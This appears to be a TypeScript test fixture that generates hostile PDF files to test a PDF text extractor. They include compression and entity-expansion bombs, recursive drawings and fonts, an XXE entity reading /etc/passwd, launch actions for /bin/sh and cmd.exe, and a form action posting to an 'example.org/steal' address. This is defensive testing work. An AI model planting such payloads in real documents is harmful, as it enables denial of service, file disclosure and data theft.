import PDFDocument from 'pdfkit';
import type { HostileFile } from './hostile-file.ts';
import { CATALOGUE, FONT, ONE_PAGE_TREE, onePage, PAGE, packed, rawPdf, stream, TEXT } from './raw-pdf.ts';

/** Files that take time, memory or pages, are encrypted, or contain actions. */
export async function costlyFiles(): Promise<readonly HostileFile[]> {
  return [...bombs(), ...repeated(), ...fonts(), ...pictures(), ...actions(), ...(await written())];
}

function bombs(): readonly HostileFile[] {
  const zeros = Buffer.alloc(300 * 1024 * 1024);
  const spaces = Buffer.alloc(40 * 1024 * 1024, ' ');
  const texts = Buffer.from(`BT /F1 1 Tf ${'(aaaaaaaaaaaaaaaaaaaa) Tj 1 0 Td '.repeat(600_000)} ET`);
  return [
    {
      name: '300 MB of zeros, packed twice',
      bytes: onePage(packed(zeros, { times: 2 })),
      outcomes: ['no-text', 'memory', 'timeout', 'damaged'],
    },
    { name: '40 MB of spaces', bytes: onePage(packed(spaces)), outcomes: ['no-text', 'memory', 'timeout'] },
    {
      name: 'twelve million letters',
      bytes: onePage(packed(texts)),
      outcomes: ['too-much-text', 'memory', 'timeout', 'extracted'],
    },
    {
      name: 'table of objects as a bomb',
      bytes: tableBomb(zeros),
      outcomes: ['damaged', 'extracted', 'memory', 'timeout', 'no-text'],
    },
    {
      name: 'objects in a stream that extends itself',
      bytes: onePage(stream(TEXT), [stream('7 0 1', '/Type /ObjStm /N 1 /First 4 /Extends 6 0 R')]),
      outcomes: ['extracted', 'damaged'],
    },
    {
      name: '200,000 objects',
      bytes: onePage(
        stream(TEXT),
        Array.from({ length: 200_000 }, () => '<< >>'),
      ),
      outcomes: ['extracted', 'timeout', 'memory'],
    },
  ];
}

function tableBomb(zeros: Buffer): Buffer {
  const table = packed(zeros, { times: 2, dictionary: '/Type /XRef /Size 100000000 /W [1 1 1] /Root 1 0 R' });
  const head = Buffer.from('%PDF-1.7\n1 0 obj\n');
  return Buffer.concat([head, table, Buffer.from('\nendobj\nstartxref\n9\n%%EOF')]);
}

/** Drawings that call drawings. */
function repeated(): readonly HostileFile[] {
  const form = (content: string, uses: string) =>
    stream(
      content,
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> /XObject << ${uses} >> >>`,
    );
  const laughs = Array.from({ length: 9 }, (_, index) => form('/N Do '.repeat(10), `/N ${index + 7} 0 R`));
  return [
    {
      name: 'drawing that draws itself',
      bytes: onePage(stream('/X1 Do'), [form('/X1 Do', '/X1 6 0 R')]),
      outcomes: ['no-text', 'damaged', 'timeout', 'memory', 'crashed'],
    },
    {
      name: 'two drawings that draw each other',
      bytes: onePage(stream('/X1 Do'), [form('/X2 Do', '/X2 7 0 R'), form('/X1 Do', '/X1 6 0 R')]),
      outcomes: ['no-text', 'damaged', 'timeout', 'memory', 'crashed'],
    },
    {
      name: 'a billion drawings',
      bytes: onePage(stream('/X1 Do'), [...laughs, form(TEXT, '')]),
      outcomes: ['too-much-text', 'timeout', 'memory', 'extracted', 'no-text'],
    },
    {
      name: '500 pages with one long content',
      bytes: manyPages(500, packed(Buffer.from(`${TEXT} `.repeat(20_000)))),
      outcomes: ['too-much-text', 'timeout', 'memory'],
    },
  ];
}

function manyPages(count: number, content: Buffer): Buffer {
  const kids = Array.from({ length: count }, () => '3 0 R').join(' ');
  return rawPdf([CATALOGUE, `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, PAGE, content, FONT]);
}

function fonts(): readonly HostileFile[] {
  const withFont = (font: string, ...more: readonly Buffer[]) =>
    rawPdf([CATALOGUE, ONE_PAGE_TREE, PAGE, stream(TEXT), font, ...more]);
  const noise = Buffer.from(Array.from({ length: 20_000 }, (_, index) => (index * 31) % 256));
  const map = `begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange ${'100 beginbfrange <0000> <FFFF> <0041> endbfrange '.repeat(2_000)} endcmap`;
  const descriptor = (file: string) =>
    `<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor << /Type /FontDescriptor /FontName /Broken /Flags 4 ${file} >> >>`;
  return [
    {
      name: 'font of noise (TrueType)',
      bytes: withFont(descriptor('/FontFile2 6 0 R'), stream(noise)),
      outcomes: ['extracted', 'no-text', 'damaged'],
    },
    {
      name: 'font of noise (Type 1)',
      bytes: withFont(descriptor('/FontFile 6 0 R'), stream(noise)),
      outcomes: ['extracted', 'no-text', 'damaged'],
    },
    {
      name: 'font that is its own part',
      bytes: withFont(
        '<< /Type /Font /Subtype /Type0 /BaseFont /B /DescendantFonts [5 0 R] /Encoding /Identity-H >>',
      ),
      outcomes: ['extracted', 'no-text', 'damaged'],
    },
    {
      name: 'font that is no dictionary',
      bytes: withFont('(nothing)'),
      outcomes: ['extracted', 'no-text', 'damaged'],
    },
    {
      name: 'letters mapped two hundred million times',
      bytes: withFont(
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>',
        packed(Buffer.from(map)),
      ),
      outcomes: ['extracted', 'no-text', 'damaged', 'timeout', 'memory'],
    },
    {
      name: 'letters of the kind that run drawings',
      bytes: withFont(
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [69 /a] >> /FirstChar 69 /LastChar 69 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>',
        stream(TEXT),
      ),
      outcomes: ['extracted', 'no-text', 'damaged', 'timeout', 'memory'],
    },
  ];
}

function pictures(): readonly HostileFile[] {
  const picture = (dictionary: string, data = 'x') =>
    onePage(stream('q 500 0 0 500 0 0 cm /X1 Do Q'), [
      stream(data, `/Type /XObject /Subtype /Image ${dictionary}`),
    ]);
  return [
    {
      name: 'picture of ten billion points',
      bytes: picture('/Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8'),
      outcomes: ['no-text', 'damaged'],
    },
    {
      name: 'picture of noise (JPEG)',
      bytes: picture(
        '/Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        '\u00ff\u00d8\u00ff\u00c0noise',
      ),
      outcomes: ['no-text', 'damaged'],
    },
    {
      name: 'picture that is its own mask',
      bytes: picture('/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 6 0 R'),
      outcomes: ['no-text', 'damaged'],
    },
  ];
}

function actions(): readonly HostileFile[] {
  const withAction = (catalogue: string, ...more: readonly Buffer[]) =>
    rawPdf([
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      ONE_PAGE_TREE,
      PAGE,
      stream(TEXT),
      FONT,
      ...more,
    ]);
  return [
    {
      name: 'script at opening',
      bytes: withAction('/OpenAction << /S /JavaScript /JS (while(true){}) >>'),
      outcomes: ['extracted'],
    },
    {
      name: 'scripts by name',
      bytes: withAction(
        '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL("https://example.org")) >>] >> >>',
      ),
      outcomes: ['extracted'],
    },
    {
      name: 'program at opening',
      bytes: withAction('/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>'),
      outcomes: ['extracted'],
    },
    {
      name: 'form that is sent away',
      bytes: withAction('/OpenAction << /S /SubmitForm /F (https://example.org/steal) /Flags 4 >>'),
      outcomes: ['extracted'],
    },
    {
      name: 'embedded program',
      bytes: withAction(
        '/Names << /EmbeddedFiles << /Names [(virus.exe) << /Type /Filespec /F (virus.exe) /EF << /F 6 0 R >> >>] >> >>',
        stream(Buffer.from('MZ'.repeat(500)), '/Type /EmbeddedFile'),
      ),
      outcomes: ['extracted'],
    },
    {
      name: 'form in XML with an entity of the machine',
      bytes: withAction(
        '/AcroForm << /Fields [] /XFA 6 0 R >>',
        stream(
          '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&x;</xdp:xdp>',
        ),
      ),
      outcomes: ['extracted', 'no-text', 'damaged'],
    },
    {
      name: 'metadata with a billion entities',
      bytes: withAction(
        '/Metadata 6 0 R',
        stream(
          '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&b;</x:xmpmeta>',
          '/Type /Metadata /Subtype /XML',
        ),
      ),
      outcomes: ['extracted'],
    },
  ];
}

async function written(): Promise<readonly HostileFile[]> {
  return [
    {
      name: 'needs a password',
      bytes: await pdfkitFile({ userPassword: 'secret' }, 1),
      outcomes: ['encrypted'],
    },
    {
      name: 'needs a password (AES-256)',
      bytes: await pdfkitFile({ userPassword: 'secret', pdfVersion: '1.7ext3' }, 1),
      outcomes: ['encrypted'],
    },
    {
      name: 'only printing needs a password',
      bytes: await pdfkitFile({ ownerPassword: 'secret' }, 1),
      outcomes: ['extracted'],
    },
    { name: '501 pages', bytes: await pdfkitFile({}, 501), outcomes: ['too-many-pages'] },
  ];
}

/** A file with this many pages that pdfkit writes. */
export async function pdfkitFile(options: PDFKit.PDFDocumentOptions, pages: number): Promise<Uint8Array> {
  const document = new PDFDocument({ ...options, autoFirstPage: false });
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  const ended = new Promise((resolve) => document.on('end', resolve));
  for (let page = 1; page <= pages; page += 1) document.addPage().text(`Page ${page}`);
  document.end();
  await ended;
  return new Uint8Array(Buffer.concat(parts));
}
